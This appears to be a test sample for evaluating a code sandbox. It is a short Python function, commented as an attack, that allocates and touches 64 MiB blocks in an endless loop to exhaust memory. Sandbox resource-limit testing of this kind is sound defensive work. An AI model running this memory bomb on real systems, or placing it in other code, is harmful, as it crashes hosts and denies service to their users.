# Attack (evaluated code): allocate and touch memory without end.
def bomb():
    hoard = []
    while True:
        hoard.append(b"x" * (64 << 20))
